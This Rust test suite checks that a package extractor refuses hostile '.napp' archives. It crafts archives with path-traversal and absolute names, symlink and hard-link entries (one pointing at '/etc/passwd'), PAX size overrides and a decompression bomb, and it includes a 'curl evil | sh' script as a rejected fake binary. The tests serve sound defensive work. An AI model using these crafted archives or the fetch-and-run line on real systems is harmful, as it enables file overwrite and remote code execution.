//! Extraction of hostile `.napp` archives: one test per class the package format refuses. Each
//! checks the stable reason, that nothing was written outside the apps directory, and that
//! nothing (no staging directory, no partial app) was left inside it.

use std::io::Write;
use std::os::unix::fs::PermissionsExt;
use std::path::PathBuf;

use flate2::Compression;
use flate2::write::GzEncoder;
use osprey_apps::napp::{self, Limits};
use osprey_apps::{Error, StagedPackage};
use serde_json::json;
use tempfile::TempDir;

const FAKE_ELF: &[u8] = b"\x7FELF\x02\x01\x01\x00fixture binary";

fn manifest_json() -> Vec<u8> {
    serde_json::to_vec_pretty(&json!({
        "id": "com.example.units",
        "name": "Units",
        "version": "1.0.0",
        "provides": ["tool:convert"]
    }))
    .unwrap()
}

/// One raw tar entry: the name goes into the header byte for byte, so names `tar::Header`'s
/// own setters refuse (`..`, absolute) can be written.
struct Raw {
    name: Vec<u8>,
    kind: tar::EntryType,
    data: Vec<u8>,
    link: Option<&'static str>,
}

fn file(name: &str, data: &[u8]) -> Raw {
    Raw {
        name: name.as_bytes().to_vec(),
        kind: tar::EntryType::Regular,
        data: data.to_vec(),
        link: None,
    }
}

fn special(name: &str, kind: tar::EntryType, link: Option<&'static str>) -> Raw {
    Raw {
        name: name.as_bytes().to_vec(),
        kind,
        data: Vec::new(),
        link,
    }
}

fn valid_entries() -> Vec<Raw> {
    vec![
        file("manifest.json", &manifest_json()),
        file("SKILL.md", b"# Units\nConvert things.\n"),
        file("signatures.json", b"{}"),
        file("binary", FAKE_ELF),
    ]
}

fn archive(entries: &[Raw]) -> Vec<u8> {
    let mut builder = tar::Builder::new(GzEncoder::new(Vec::new(), Compression::fast()));
    for entry in entries {
        let mut header = tar::Header::new_ustar();
        let field = &mut header.as_old_mut().name;
        field[..entry.name.len()].copy_from_slice(&entry.name);
        header.set_entry_type(entry.kind);
        header.set_mode(0o755);
        header.set_size(entry.data.len() as u64);
        if let Some(link) = entry.link {
            header.set_link_name(link).unwrap();
        }
        header.set_cksum();
        builder.append(&header, entry.data.as_slice()).unwrap();
    }
    builder.into_inner().unwrap().finish().unwrap()
}

/// An apps directory inside a sandbox directory, so "outside" is observable.
struct Sandbox {
    root: TempDir,
}

impl Sandbox {
    fn new() -> Sandbox {
        let root = tempfile::tempdir().unwrap();
        std::fs::create_dir(root.path().join("apps")).unwrap();
        Sandbox { root }
    }
    fn apps(&self) -> PathBuf {
        self.root.path().join("apps")
    }
    fn extract(&self, bytes: &[u8], limits: &Limits) -> Result<StagedPackage, Error> {
        napp::extract(bytes, &self.apps(), limits, true)
    }
    /// Everything under the sandbox root except the apps directory itself.
    fn assert_untouched(&self) {
        let apps: Vec<_> = std::fs::read_dir(self.apps()).unwrap().collect();
        assert!(apps.is_empty(), "left inside the apps dir: {apps:?}");
        let root: Vec<_> = std::fs::read_dir(self.root.path())
            .unwrap()
            .map(|e| e.unwrap().file_name())
            .collect();
        assert_eq!(root, ["apps"], "written outside the apps dir");
    }
}

fn rejected(result: Result<StagedPackage, Error>) -> &'static str {
    match result {
        Err(error) => {
            assert_eq!(error.code(), "package_rejected", "{error}");
            error.reason().unwrap()
        }
        Ok(staged) => panic!("accepted: {:?}", staged.path()),
    }
}

fn with(extra: Raw) -> Vec<Raw> {
    let mut entries = valid_entries();
    entries.insert(2, extra);
    entries
}

#[test]
fn a_valid_package_extracts_and_commits_into_place() {
    let sandbox = Sandbox::new();
    let mut entries = valid_entries();
    entries.push(special("ui/", tar::EntryType::Directory, None));
    entries.push(file("ui/index.html", b"<h1>units</h1>"));
    entries.push(file("ui/assets/app.js", b"console.log(1)"));
    let staged = sandbox
        .extract(&archive(&entries), &Limits::default())
        .unwrap();
    assert!(staged.path().starts_with(sandbox.apps()));
    assert_eq!(staged.manifest().id, "com.example.units");
    assert_eq!(staged.manifest_bytes(), manifest_json());
    let installed = staged.commit().unwrap();
    assert_eq!(installed, sandbox.apps().join("com.example.units"));
    let mode = std::fs::metadata(installed.join("binary"))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o755);
    let mode = std::fs::metadata(installed.join("SKILL.md"))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o644, "archive modes are not applied");
    assert_eq!(
        std::fs::read_to_string(installed.join("ui/assets/app.js")).unwrap(),
        "console.log(1)"
    );
    let apps: Vec<_> = std::fs::read_dir(sandbox.apps())
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(apps, ["com.example.units"], "no staging directory left");
}

#[test]
fn absolute_paths_are_rejected() {
    let sandbox = Sandbox::new();
    let target = sandbox.root.path().join("pwned");
    let name = target.to_str().unwrap().to_owned();
    let reason = rejected(sandbox.extract(&archive(&with(file(&name, b"x"))), &Limits::default()));
    assert_eq!(reason, "absolute_path");
    assert!(!target.exists());
    sandbox.assert_untouched();
}

#[test]
fn parent_dir_paths_are_rejected() {
    for name in ["../pwned", "ui/../../pwned", "./../pwned"] {
        let sandbox = Sandbox::new();
        let reason =
            rejected(sandbox.extract(&archive(&with(file(name, b"x"))), &Limits::default()));
        assert_eq!(reason, "parent_dir", "{name}");
        sandbox.assert_untouched();
    }
}

#[test]
fn symlinks_are_rejected() {
    let sandbox = Sandbox::new();
    let outside = sandbox.root.path().to_str().unwrap().to_owned();
    let outside: &'static str = Box::leak(outside.into_boxed_str());
    for entries in [
        with(special("ui", tar::EntryType::Symlink, Some(outside))),
        // A link first, then a file through it: the classic write-through.
        {
            let mut entries = valid_entries();
            entries.insert(0, special("ui", tar::EntryType::Symlink, Some(outside)));
            entries.insert(1, file("ui/pwned", b"x"));
            entries
        },
    ] {
        let reason = rejected(sandbox.extract(&archive(&entries), &Limits::default()));
        assert_eq!(reason, "link");
        sandbox.assert_untouched();
    }
}

#[test]
fn hard_links_are_rejected() {
    let sandbox = Sandbox::new();
    let entries = with(special(
        "ui/passwd",
        tar::EntryType::Link,
        Some("/etc/passwd"),
    ));
    assert_eq!(
        rejected(sandbox.extract(&archive(&entries), &Limits::default())),
        "link"
    );
    sandbox.assert_untouched();
}

#[test]
fn device_entries_are_rejected() {
    for kind in [tar::EntryType::Char, tar::EntryType::Block] {
        let sandbox = Sandbox::new();
        let entries = with(special("ui/dev", kind, None));
        let reason = rejected(sandbox.extract(&archive(&entries), &Limits::default()));
        assert_eq!(reason, "special_file", "{kind:?}");
        sandbox.assert_untouched();
    }
}

#[test]
fn fifo_entries_are_rejected() {
    let sandbox = Sandbox::new();
    let entries = with(special("ui/pipe", tar::EntryType::Fifo, None));
    assert_eq!(
        rejected(sandbox.extract(&archive(&entries), &Limits::default())),
        "special_file"
    );
    sandbox.assert_untouched();
}

#[test]
fn names_outside_the_allowlist_are_rejected() {
    for name in [
        "evil.sh",
        "data/settings.json",
        "ui/.htaccess",
        "logs/x",
        "UI/index.html",
    ] {
        let sandbox = Sandbox::new();
        let reason =
            rejected(sandbox.extract(&archive(&with(file(name, b"x"))), &Limits::default()));
        assert_eq!(reason, "name_not_allowed", "{name}");
        sandbox.assert_untouched();
    }
}

#[test]
fn duplicate_entries_are_rejected() {
    for extra in [
        file("manifest.json", b"{\"id\": \"other\"}"),
        file("app", FAKE_ELF),
        file("./SKILL.md", b"again"),
    ] {
        let sandbox = Sandbox::new();
        let name = String::from_utf8_lossy(&extra.name).into_owned();
        let mut entries = valid_entries();
        entries.push(extra);
        let reason = rejected(sandbox.extract(&archive(&entries), &Limits::default()));
        assert_eq!(reason, "duplicate", "{name}");
        sandbox.assert_untouched();
    }
    // Names that differ only in case would collide on a case-insensitive file system.
    let sandbox = Sandbox::new();
    let mut entries = valid_entries();
    entries.push(file("ui/Index.html", b"a"));
    entries.push(file("ui/index.html", b"b"));
    assert_eq!(
        rejected(sandbox.extract(&archive(&entries), &Limits::default())),
        "duplicate"
    );
    sandbox.assert_untouched();
}

#[test]
fn per_file_caps_count_the_bytes_read() {
    let limits = Limits {
        ui_file: 1000,
        metadata_file: 2000,
        ..Limits::default()
    };
    let sandbox = Sandbox::new();
    let at_cap = with(file("ui/at-cap.txt", &[b'a'; 1000]));
    sandbox.extract(&archive(&at_cap), &limits).unwrap();
    let over = with(file("ui/over.txt", &[b'a'; 1001]));
    assert_eq!(
        rejected(sandbox.extract(&archive(&over), &limits)),
        "file_too_large"
    );
    let mut big_skill = valid_entries();
    big_skill[1] = file("SKILL.md", &[b'#'; 2001]);
    assert_eq!(
        rejected(sandbox.extract(&archive(&big_skill), &limits)),
        "file_too_large"
    );
    let small_binary = Limits {
        binary: 8,
        ..Limits::default()
    };
    assert_eq!(
        rejected(sandbox.extract(&archive(&valid_entries()), &small_binary)),
        "file_too_large"
    );
    sandbox.assert_untouched();
}

/// A PAX header can override an entry's size (RUSTSEC-2026-0068's differential); packages may not
/// carry extension headers at all, so there is no second size to disagree with.
#[test]
fn pax_and_gnu_extension_headers_are_rejected() {
    for (kind, data) in [
        (tar::EntryType::XHeader, b"16 size=999999\n".to_vec()),
        (tar::EntryType::XGlobalHeader, b"16 size=999999\n".to_vec()),
        (
            tar::EntryType::GNULongName,
            b"ui/a-very-long-name\0".to_vec(),
        ),
        (tar::EntryType::GNUSparse, Vec::new()),
    ] {
        let sandbox = Sandbox::new();
        let mut entries = valid_entries();
        entries.insert(
            0,
            Raw {
                name: b"ui/x".to_vec(),
                kind,
                data,
                link: None,
            },
        );
        let reason = rejected(sandbox.extract(&archive(&entries), &Limits::default()));
        assert_eq!(reason, "unsupported_entry", "{kind:?}");
        sandbox.assert_untouched();
    }
}

#[test]
fn the_total_cap_is_enforced() {
    let sandbox = Sandbox::new();
    let limits = Limits {
        total: 4000,
        ..Limits::default()
    };
    let mut entries = valid_entries();
    for index in 0..5 {
        entries.push(file(&format!("ui/part{index}.bin"), &[7u8; 900]));
    }
    assert_eq!(
        rejected(sandbox.extract(&archive(&entries), &limits)),
        "total_too_large"
    );
    sandbox.assert_untouched();
}

#[test]
fn the_entry_count_cap_is_enforced() {
    let sandbox = Sandbox::new();
    let limits = Limits {
        entries: 10,
        ..Limits::default()
    };
    let mut entries = valid_entries();
    for index in 0..7 {
        entries.push(file(&format!("ui/f{index}"), b"x"));
    }
    assert_eq!(
        rejected(sandbox.extract(&archive(&entries), &limits)),
        "too_many_entries"
    );
    sandbox.assert_untouched();
}

/// A directory entry carrying 20 MB of (well-compressing) data is never written anywhere, but the
/// tar reader would still have to read through it: the decompressed stream itself is capped.
#[test]
fn a_decompression_bomb_is_cut_off_at_the_stream_cap() {
    let sandbox = Sandbox::new();
    let limits = Limits {
        total: 64 * 1024,
        entries: 16,
        ..Limits::default()
    };
    let mut entries = valid_entries();
    entries.insert(
        0,
        Raw {
            name: b"ui/".to_vec(),
            kind: tar::EntryType::Directory,
            data: vec![0u8; 20 * 1024 * 1024],
            link: None,
        },
    );
    let bytes = archive(&entries);
    assert!(bytes.len() < 100 * 1024, "the bomb compresses well");
    assert_eq!(
        rejected(sandbox.extract(&bytes, &limits)),
        "total_too_large"
    );
    sandbox.assert_untouched();
}

#[test]
fn binaries_that_are_not_native_executables_are_rejected() {
    for (data, reason) in [
        (&b"#!/bin/sh\ncurl evil | sh\n"[..], "binary_is_script"),
        (&b"just some text"[..], "binary_unknown_format"),
        (&b""[..], "binary_empty"),
    ] {
        let sandbox = Sandbox::new();
        let mut entries = valid_entries();
        entries[3] = file("binary", data);
        assert_eq!(
            rejected(sandbox.extract(&archive(&entries), &Limits::default())),
            reason
        );
        sandbox.assert_untouched();
    }
}

#[test]
fn required_files_must_be_present() {
    for (missing, reason_name) in [
        ("manifest.json", "manifest.json"),
        ("SKILL.md", "SKILL.md"),
        ("binary", "binary"),
        ("signatures.json", "signatures.json"),
    ] {
        let sandbox = Sandbox::new();
        let entries: Vec<Raw> = valid_entries()
            .into_iter()
            .filter(|entry| entry.name != missing.as_bytes())
            .collect();
        let error = sandbox
            .extract(&archive(&entries), &Limits::default())
            .unwrap_err();
        assert_eq!(error.reason(), Some("missing_file"), "{missing}");
        assert!(error.to_string().contains(reason_name), "{error}");
        sandbox.assert_untouched();
    }
    // Unsigned packages are accepted only when asked for (signing an unsigned package).
    let sandbox = Sandbox::new();
    let unsigned: Vec<Raw> = valid_entries()
        .into_iter()
        .filter(|entry| entry.name != b"signatures.json")
        .collect();
    let staged = napp::extract(
        archive(&unsigned).as_slice(),
        &sandbox.apps(),
        &Limits::default(),
        false,
    )
    .unwrap();
    assert!(!staged.has_signatures());
}

#[test]
fn an_invalid_manifest_is_refused_with_its_field() {
    let sandbox = Sandbox::new();
    let mut entries = valid_entries();
    entries[0] = file(
        "manifest.json",
        br#"{"id": "x", "name": "X", "version": "1", "provides": ["ui"]}"#,
    );
    let error = sandbox
        .extract(&archive(&entries), &Limits::default())
        .unwrap_err();
    assert_eq!(error.code(), "manifest_invalid");
    assert!(error.to_string().contains("version"), "{error}");
    sandbox.assert_untouched();
}

#[test]
fn corrupt_and_truncated_archives_are_rejected() {
    let good = archive(&valid_entries());
    let raw_tar = {
        let mut decoder = flate2::read::GzDecoder::new(good.as_slice());
        let mut tar = Vec::new();
        std::io::Read::read_to_end(&mut decoder, &mut tar).unwrap();
        tar
    };
    let mut flipped_header = raw_tar.clone();
    flipped_header[100] ^= 0xFF; // inside the first header: its checksum no longer matches
    let cases: Vec<Vec<u8>> = vec![
        b"definitely not gzip".to_vec(),
        good[..good.len() / 2].to_vec(),
        gzip(&flipped_header),
        gzip(&raw_tar[..700]),
    ];
    for bytes in cases {
        let sandbox = Sandbox::new();
        let error = sandbox.extract(&bytes, &Limits::default()).unwrap_err();
        assert_eq!(error.code(), "package_rejected", "{error}");
        sandbox.assert_untouched();
    }
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::fast());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

/// Whatever an earlier install left at the app's path (here a symlink pointing outside) is never
/// written through: extraction goes to a fresh staging directory, and the final rename refuses
/// an occupied name.
#[test]
fn an_occupied_app_path_is_never_written_through() {
    let sandbox = Sandbox::new();
    let outside = sandbox.root.path().join("outside");
    std::fs::create_dir(&outside).unwrap();
    std::os::unix::fs::symlink(&outside, sandbox.apps().join("com.example.units")).unwrap();
    let staged = sandbox
        .extract(&archive(&valid_entries()), &Limits::default())
        .unwrap();
    let error = staged.commit().unwrap_err();
    assert_eq!(error.code(), "already_installed");
    assert_eq!(std::fs::read_dir(&outside).unwrap().count(), 0);
    let left: Vec<_> = std::fs::read_dir(sandbox.apps())
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(
        left,
        ["com.example.units"],
        "the staging directory was removed"
    );
}

#[test]
fn a_dropped_staged_package_leaves_nothing() {
    let sandbox = Sandbox::new();
    let staged = sandbox
        .extract(&archive(&valid_entries()), &Limits::default())
        .unwrap();
    assert!(staged.path().exists());
    drop(staged);
    sandbox.assert_untouched();
}
